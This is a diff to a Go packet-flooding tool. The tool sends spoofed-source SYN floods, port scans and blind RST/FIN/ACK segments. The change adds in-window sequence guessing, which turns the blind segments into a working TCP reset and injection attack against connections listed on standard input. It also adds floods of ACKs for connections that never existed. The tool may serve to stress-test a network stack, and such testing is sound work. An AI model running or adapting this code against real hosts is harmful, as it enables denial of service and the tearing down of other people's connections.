@@ -1,6 +1,7 @@
 package main
 
 import (
+	"bufio"
 	"encoding/binary"
 	"fmt"
 	"log"
@@ -38,12 +39,15 @@ type flooder struct {
 		_      [4]byte
 	}
 	random *rand.Rand
+	// Guesses hit the window.
+	isInside bool
 }
 
 // flood sends `count` segments of a kind, at most `rate` a second if that is above 0, and prints how many went and how
-// long it took. Kinds: syn (each from another address), scan (a SYN to each
-// port), sweep (the same, each from another address), rst, fin and ack (blind guesses into
-// the connections that standard input names, a line each: the client's address:port).
+// long it took. Kinds: syn (each from another address), stray (the same with data of connections that never were), scan
+// (a SYN to each port), sweep (the same, each from another address), rst, fin and ack (blind guesses into the connections
+// that standard input names, a line each: the client's address:port, and what it sends next and its peer's window if
+// those are known), rst-inside, fin-inside and ack-inside (the same within that window, and not at its edge).
 func flood(kind, device, to, links string, count, rate int) {
 	if sendmmsg == 0 {
 		log.Fatal("flood: not on ", runtime.GOARCH)
@@ -52,11 +56,13 @@ func flood(kind, device, to, links string, count, rate int) {
 	if err != nil {
 		log.Fatal(err)
 	}
-	var clients []*net.TCPAddr
+	kind, place, _ := strings.Cut(kind, "-")
+	var clients []client
 	if kind == "rst" || kind == "fin" || kind == "ack" {
 		clients = readClients()
 	}
 	f := newFlooder(device, links)
+	f.isInside = place == "inside"
 	started := time.Now()
 	sent := 0
 	for sent < count {
@@ -75,23 +81,28 @@ func flood(kind, device, to, links string, count, rate int) {
 	fmt.Printf("%d %.3f\n", sent, time.Since(started).Seconds())
 }
 
-func readClients() []*net.TCPAddr {
-	var lines []byte
-	buffer := make([]byte, 1<<16)
-	for {
-		count, err := os.Stdin.Read(buffer)
-		lines = append(lines, buffer[:count]...)
-		if err != nil {
-			break
+// A client whose connection is guessed into.
+type client struct {
+	source       uint32
+	port         uint16
+	next, window uint32
+}
+
+func readClients() []client {
+	var clients []client
+	lines := bufio.NewScanner(os.Stdin)
+	for lines.Scan() {
+		var name string
+		var known client
+		if found, err := fmt.Sscan(lines.Text(), &name, &known.next, &known.window); found == 0 {
+			log.Fatal(err)
 		}
-	}
-	var clients []*net.TCPAddr
-	for _, line := range strings.Fields(string(lines)) {
-		client, err := net.ResolveTCPAddr("tcp4", line)
+		address, err := net.ResolveTCPAddr("tcp4", name)
 		if err != nil {
 			log.Fatal(err)
 		}
-		clients = append(clients, client)
+		known.source, known.port = binary.BigEndian.Uint32(address.IP.To4()), uint16(address.Port)
+		clients = append(clients, known)
 	}
 	return clients
 }
@@ -126,17 +137,22 @@ func newFlooder(device, links string) *flooder {
 	return f
 }
 
-func (f *flooder) fill(frame *[headersLen]byte, kind string, number int, target *net.TCPAddr, clients []*net.TCPAddr) {
+func (f *flooder) fill(frame *[headersLen]byte, kind string, number int, target *net.TCPAddr, clients []client) {
 	source, sourcePort, port := scattered(number), uint16(1024+number%60000), uint16(target.Port)
-	flags, acknowledges := byte(syn), uint32(0)
+	flags, sequence, acknowledges := byte(syn), f.random.Uint32(), uint32(0)
 	switch kind {
 	case "scan":
 		source, sourcePort, port = 0x0a4d0001, 40000, uint16(1+number%65535)
 	case "sweep":
 		port = uint16(1 + number%65535)
+	case "stray":
+		flags, acknowledges = ack, f.random.Uint32()
 	case "rst", "fin", "ack":
 		client := clients[number%len(clients)]
-		source, sourcePort = binary.BigEndian.Uint32(client.IP.To4()), uint16(client.Port)
+		source, sourcePort = client.source, client.port
+		if f.isInside {
+			sequence = client.next + 1 + f.random.Uint32()%(client.window-1)
+		}
 		flags = map[string]byte{"rst": rst, "fin": fin | ack, "ack": ack}[kind]
 		acknowledges = f.random.Uint32()
 	}
@@ -147,7 +163,7 @@ func (f *flooder) fill(frame *[headersLen]byte, kind string, number int, target 
 	binary.BigEndian.PutUint16(ip[10:], checksum(ip, 0))
 	binary.BigEndian.PutUint16(tcp, sourcePort)
 	binary.BigEndian.PutUint16(tcp[2:], port)
-	binary.BigEndian.PutUint32(tcp[4:], f.random.Uint32())
+	binary.BigEndian.PutUint32(tcp[4:], sequence)
 	binary.BigEndian.PutUint32(tcp[8:], acknowledges)
 	copy(tcp[12:20], []byte{0x50, flags, 0xfd, 0xe8, 0, 0, 0, 0})
 	pseudo := uint32(6+20) + sum(ip[12:20])
